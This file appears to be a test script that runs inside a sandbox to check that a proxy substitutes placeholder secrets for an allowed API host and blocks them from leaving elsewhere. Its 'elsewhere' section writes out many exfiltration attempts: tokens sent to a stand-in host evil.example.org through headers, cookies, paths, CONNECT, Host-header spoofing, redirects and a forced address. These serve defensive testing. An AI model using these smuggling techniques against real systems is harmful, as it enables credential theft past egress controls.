"""Runs inside a guest: sends requests with placeholders of secrets. Prints one line for each: its name and the answer.

    requests.py arriving|elsewhere|handshakes|streams
"""

import base64
import gzip
import hashlib
import http.client
import json
import os
import socket
import ssl
import struct
import subprocess
import sys
import urllib.parse
import zlib
from attack import greeting

PATIENCE_SECONDS = 60
API, EVIL = "api.example.org", "evil.example.org"
TOKEN, OTHER = os.environ["TOKEN"], os.environ.get("OTHER", "")


def tell(what, result):
    print(f"{what}: {result}", flush=True)


def outcome(attempt):
    """Returns an answer, or how it failed."""
    try:
        return attempt()
    except ssl.SSLCertVerificationError as error:
        return f"not trusted: {error.verify_message}"
    except (ConnectionRefusedError, ConnectionResetError, BrokenPipeError, ssl.SSLError, EOFError):
        return "refused"
    except (TimeoutError, socket.timeout):
        return "silence"
    except (OSError, http.client.HTTPException) as error:
        return f"refused ({error})"


def connect(name, server=None, protocols=(), verify=True, greeted=None):
    """Opens TLS for a name, at the address of `server` if that is another one. `greeted`: the name in the handshake."""
    context = ssl.create_default_context()
    if not verify:
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    if protocols:
        context.set_alpn_protocols(list(protocols))
    stream = socket.create_connection((server or name, 443), timeout=PATIENCE_SECONDS)
    stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return context.wrap_socket(stream, server_hostname=name if greeted is None else greeted or None)


def request(path, host=API, method="GET", headers=(), body=b"", chunks=None):
    lines = [f"{method} {path} HTTP/1.1", f"Host: {host}", *headers]
    if chunks is not None:
        lines.append("Transfer-Encoding: chunked")
        body = b"".join(b"%x\r\n%s\r\n" % (len(chunk), chunk) for chunk in [*chunks, b""])
    elif body:
        lines.append(f"Content-Length: {len(body)}")
    return "\r\n".join([*lines, "", ""]).encode() + body


class Buffered:
    """What `HTTPResponse` needs of a socket; it keeps what was read of the next answer."""

    def __init__(self, stream):
        self.file = stream.makefile("rb")

    def makefile(self, _mode):
        return Unclosed(self.file)


class Unclosed:
    def __init__(self, file):
        self.file = file

    def __getattr__(self, name):
        return getattr(self.file, name)

    def close(self):
        pass


def answer(stream, method="GET", headers=None):
    """Returns the status and the body of an answer on one line."""
    response = http.client.HTTPResponse(stream, method=method)
    response.begin()
    body = response.read().decode()
    if headers is not None:
        headers.update(response.getheaders())
    return f"{response.status} {body.strip()}".replace("\n", " | ")


def once(name, message, **options):
    def attempt():
        with connect(name, **options) as stream:
            stream.sendall(message)
            return answer(Buffered(stream))
    return outcome(attempt)


def arriving():
    """Requests to the right host, all of HTTP/1 on one connection."""
    with connect(API) as stream:
        answers = Buffered(stream)

        def send(what, *pieces):
            for piece in pieces:
                stream.sendall(piece)
            tell(what, outcome(lambda: answer(answers)))

        bearer = f"Authorization: Bearer {TOKEN}"
        basic = "Authorization: Basic " + base64.b64encode(f"user:{TOKEN}".encode()).decode()
        send("header", request("/header", headers=[bearer]))
        send("basic", request("/basic", headers=[basic]))
        send("query", request("/query?a=b&key=" + urllib.parse.quote(TOKEN), headers=["X-None: 1"]))
        body = json.dumps({"key": TOKEN, "after": "text"}).encode()
        send("json", request("/json", method="POST", headers=["Content-Type: application/json"], body=body))
        form = urllib.parse.urlencode({"key": TOKEN, "after": "text"}).encode()
        kind = "Content-Type: application/x-www-form-urlencoded"
        send("form", request("/form", method="POST", headers=[kind], body=form))
        send("chunked", request("/chunked", method="POST", chunks=[b"<", *cut(TOKEN.encode()), b">"]))
        # Each byte of the head and of the body is a record of TLS.
        whole = request("/bytes", method="POST", headers=[bearer], body=b"<" + TOKEN.encode() + b">")
        send("bytes", *(whole[at:at + 1] for at in range(len(whole))))
        send("duplicate", request("/duplicate", headers=[f"X-Key: {TOKEN}", "X-Key: none", f"X-Key: {TOKEN}{TOKEN}"]))
        # Nothing of these is replaced.
        send("path", request(f"/path/{TOKEN}"))
        packed = gzip.compress(b"<" + TOKEN.encode() + b">", mtime=0) + TOKEN.encode()
        send("gzip " + hashlib.sha256(packed).hexdigest(), request(
            "/gzip", method="POST", headers=["Content-Encoding: gzip"], body=packed))
        send("part", request("/part", headers=[f"Authorization: {OTHER}", f"X-Api-Key: {OTHER}"]))
        # Two requests at once.
        stream.sendall(request("/first", headers=[bearer]) + request("/next", headers=[bearer]))
        for what in ("first", "next"):
            tell(what, outcome(lambda: answer(answers)))
        headers = {}
        stream.sendall(request("/echo", method="POST", headers=[bearer, f"X-Sent: {TOKEN}"], body=TOKEN.encode()))
        tell("echo", outcome(lambda: answer(answers, headers=headers)))
        tell("echo header", headers.get("x-echo"))
    tell("old", once("old.example.org", request("/old", "old.example.org", headers=[bearer])))
    tell("http", outcome(plain))
    print(curl("h2", "/h2/header", "-H", bearer))
    print(curl("h2 body", "/h2/body", "--data", f"<{TOKEN}>"))
    print(curl("h2 continue", "/h2/continue", "-H", "Expect: 100-continue", "--data", f"<{TOKEN}>"))
    print(curl("h1", "/h1/header", "--http1.1", "-u", f"user:{TOKEN}"))
    tell("frames", frames("/frames", API, [b"<", *cut(TOKEN.encode()), b">"], [("x-key", TOKEN)]))


def plain():
    """Plain HTTP, for a secret that allows it and one that does not."""
    results = []
    for path, secret in (("/plain", os.environ["PLAIN"]), ("/plain/refused", TOKEN)):
        with socket.create_connection((API, 80), timeout=PATIENCE_SECONDS) as stream:
            stream.sendall(request(path, headers=[f"X-Key: {secret}"]))
            results.append(outcome(lambda: answer(Buffered(stream))))
    return " / ".join(results)


def cut(text):
    """Returns a text in pieces of one byte."""
    return [text[at:at + 1] for at in range(len(text))]


def curl(what, path, *arguments, host=API):
    command = ["curl", "-sS", "--max-time", str(PATIENCE_SECONDS), *arguments, f"https://{host}{path}"]
    command += ["-w", "\n%{http_version} %{http_code}\n"]
    result = subprocess.run(command, capture_output=True, text=True, check=False)
    return f"{what}: {result.stdout}{result.stderr}".strip().replace("\n", " | ")


def frame(kind, flags, stream, payload):
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def literal(name, value):
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def frames(path, authority, pieces, fields=(), greeted=API):
    """Sends a request in HTTP/2 with a DATA frame for each piece, and returns the text of the answer."""
    def attempt():
        with connect(greeted, protocols=["h2"]) as stream:
            if stream.selected_alpn_protocol() != "h2":
                return f"no h2 but {stream.selected_alpn_protocol()}"
            head = b"".join(literal(*field) for field in (
                (":method", "POST"), (":scheme", "https"), (":path", path), (":authority", authority), *fields))
            # Headers end with a CONTINUATION.
            stream.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + frame(1, 0, 1, head[:20]) +
                           frame(9, 4, 1, head[20:]))
            for piece in pieces:
                stream.sendall(frame(0, 0, 1, piece))
            stream.sendall(frame(0, 1, 1, b""))
            file, text = stream.makefile("rb"), b""
            while len(head := file.read(9)) == 9:
                length, kind, flags = int.from_bytes(head[:3], "big"), head[3], head[4]
                payload = file.read(length)
                text += payload if kind == 0 else b""
                if kind == 3:
                    return f"reset {int.from_bytes(payload, 'big')}"
                if kind in (0, 1) and flags & 1:
                    return text.decode().strip().replace("\n", " | ")
            raise EOFError
    return outcome(attempt)


def elsewhere():
    """Requests that no value may leave with."""
    bearer = f"Authorization: Bearer {TOKEN}"
    basic = "Authorization: Basic " + base64.b64encode(f"user:{TOKEN}".encode()).decode()
    encoded = urllib.parse.quote(TOKEN)

    def evil(what, *arguments, **options):
        tell(what, once(EVIL, request(f"/{what}", EVIL, *arguments, **options)))

    evil("wrong/none")
    evil("wrong/header", headers=[bearer])
    evil("wrong/basic", headers=[basic])
    evil("wrong/cookie", headers=[f"Cookie: a=b; c={TOKEN}"])
    evil("wrong/json", method="POST", headers=["Accept: application/json"], body=TOKEN.encode())
    evil("wrong/chunks", method="POST", chunks=[b"<", *cut(TOKEN.encode()), b">"])
    tell("wrong/query", once(EVIL, request(f"/wrong/query?key={encoded}", EVIL)))
    tell("wrong/path", once(EVIL, request(f"/wrong/path/{encoded}", EVIL)))
    evil("wrong/upgrade", headers=[bearer, "Upgrade: echo", "Connection: upgrade"])
    evil("wrong/quiet", headers=[f"X-Key: {os.environ['QUIET']}"])
    evil("wrong/passed", headers=[f"X-Key: {os.environ['PASSED']}"])
    tell("wrong/logs", once("logs.example.org", request(
        "/wrong/logs", "logs.example.org", headers=[f"X-Key: {OTHER}"])))
    evil("wrong/other", headers=[f"X-Key: {OTHER}"])
    print(curl("wrong/h2", "/wrong/h2", "-H", bearer, host=EVIL))
    # The host of the request is another one than that of the connection.
    tell("host/evil", once(API, request("/host/evil", EVIL, headers=[bearer])))
    tell("host/tenant", once("tenant.example.org", request("/host/tenant", API, headers=[bearer])))
    tell("tenant", once("tenant.example.org", request("/tenant", "tenant.example.org", headers=[bearer])))
    tell("host/url", once(API, request(f"https://{EVIL}/host/url", API, headers=[bearer])))
    tell("host/twice", once(API, request("/host/twice", API, headers=[f"Host: {EVIL}", bearer])))
    tell("host/h2", frames("/host/h2", EVIL, [], [("x-key", TOKEN)]))
    tell("connect", once(API, request(f"{EVIL}:443", f"{EVIL}:443", "CONNECT", headers=[bearer])))

    def second():
        with connect(API) as stream:
            answers = Buffered(stream)
            stream.sendall(request("/second/right", headers=[bearer]))
            first = answer(answers)
            stream.sendall(request("/second/wrong", EVIL, headers=[bearer]))
            return f"{first} / {answer(answers)}"

    tell("second", outcome(second))
    location = ["-L", "--location-trusted", "--max-redirs", "3", "-H", bearer]
    print(curl("redirect", f"/redirect/away?https://{EVIL}/redirected", *location))
    # The right name at an address that was never resolved for it.
    tell("address", once(API, request("/address", headers=[bearer]), server=EVIL))
    print(curl("resolve", "/resolve", "-H", bearer, "--resolve", f"{API}:443:93.184.216.21"))


def handshakes():
    """Servers with certificates of all kinds, and handshakes without a name."""
    for name in ("api", "known", "dev", "dev2", "untrusted", "client", "pinned"):
        host, path = f"{name}.example.org", f"/handshake/{name}"
        tell(name, once(host, request(path, host, headers=[f"X-Key: {os.environ['PINNED']}"]), verify=False))

        def issuer():
            with connect(host, verify=False) as stream:
                return "the sandbox" if b"msb sandbox" in stream.getpeercert(binary_form=True) else "its own"
        tell(f"issuer of {name}", outcome(issuer))
    tell("verified pinned", once("pinned.example.org", request("/", "pinned.example.org")))

    def hello(bytes):
        def attempt():
            with socket.create_connection((API, 443), timeout=PATIENCE_SECONDS) as stream:
                stream.sendall(bytes)
                return "answered" if stream.recv(1) else "refused"
        return outcome(attempt)

    tell("hello", hello(greeting(API)))
    tell("hello without a name", hello(greeting(None)))
    tell("hello with a hidden name", hello(greeting(API, hidden=True)))

    def packet(port):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.settimeout(PATIENCE_SECONDS)
            client.connect((API, port))
            client.send(b"ping")
            return client.recv(16).decode()
    tell("udp 5000", outcome(lambda: packet(5000)))
    tell("udp 443", outcome(lambda: packet(443)))
    tell("other protocol", outcome(lambda: connect(API, protocols=["acme-tls/1"]).selected_alpn_protocol() or "none"))


def streams():
    """Upgrades, trailers, and what comes after them."""
    def upgrade():
        with connect(API) as stream:
            fields = ["Upgrade: echo", "Connection: upgrade", f"X-Key: {TOKEN}"]
            stream.sendall(request("/upgrade", headers=fields))
            file = stream.makefile("rb")
            status = file.readline().split()[1].decode()
            while file.readline().strip():
                pass
            stream.sendall(f"{TOKEN}\n".encode())
            return f"{status} {file.readline().decode().strip()}"
    tell("upgrade", outcome(upgrade))

    def trailers():
        with connect(API) as stream:
            fields = ["TE: trailers", "Trailer: x-sent", "Transfer-Encoding: chunked"]
            head = request("/trailers", method="POST", headers=fields)
            stream.sendall(head + b"3\r\nabc\r\n0\r\nx-sent: " + TOKEN.encode() + b"\r\n\r\n")
            file, lines = stream.makefile("rb"), []
            while file.readline() not in (b"0\r\n", b""):
                pass
            while line := file.readline().strip():
                lines.append(line.decode())
            return " | ".join(sorted(lines))
    tell("trailers", outcome(trailers))

    def large():
        with connect(API) as stream:
            stream.sendall(request("/large?2000000"))
            response = http.client.HTTPResponse(stream)
            response.begin()
            return f"{response.status} {len(response.read())}"
    tell("large", outcome(large))
    body = b"0123456789abcdef" * 100_000 + TOKEN.encode()
    tell("upload", once(API, request("/upload", method="POST", body=body)))
    encodings()


def encodings():
    """Sends bodies with an encoding, in which the placeholder is readable: their blocks are stored, not compressed."""
    text = b"\n".join([TOKEN.encode(), bytes(range(256)) * 100, TOKEN.encode(), b"0123456789abcdef" * 2000, TOKEN.encode()])
    assert len(text) < 1 << 16
    packed = {
        "gzip": gzip.compress(text, 0, mtime=0),
        "deflate": zlib.compress(text, 0),
        # A window of 16 bits, an uncompressed meta-block with its length, and an empty last one.
        "br": (1 << 20 | len(text) - 1 << 4).to_bytes(3, "little") + text + b"\3",
        # A frame of one segment with its length, and a raw block, which is the last one.
        "zstd": struct.pack("<IBI", 0xFD2FB528, 0xA0, len(text)) + (1 | len(text) << 3).to_bytes(3, "little") + text,
    }
    with connect(API) as stream:
        answers = Buffered(stream)
        for coding, body in packed.items():
            fields = [f"Content-Encoding: {coding}", "Content-Type: text/plain"]
            chunks = [body[at:at + 997] for at in range(0, len(body), 997)]
            for how, options in (("length", {"body": body}), ("chunks", {"chunks": chunks})):
                stream.sendall(request(f"/encoded/{coding}/{how}", method="POST", headers=fields, **options))
                tell(f"{coding} {how} {hashlib.sha256(body).hexdigest()}", outcome(lambda: answer(answers)))


GROUPS = {"arriving": arriving, "elsewhere": elsewhere, "handshakes": handshakes, "streams": streams}
GROUPS[sys.argv[1]]()
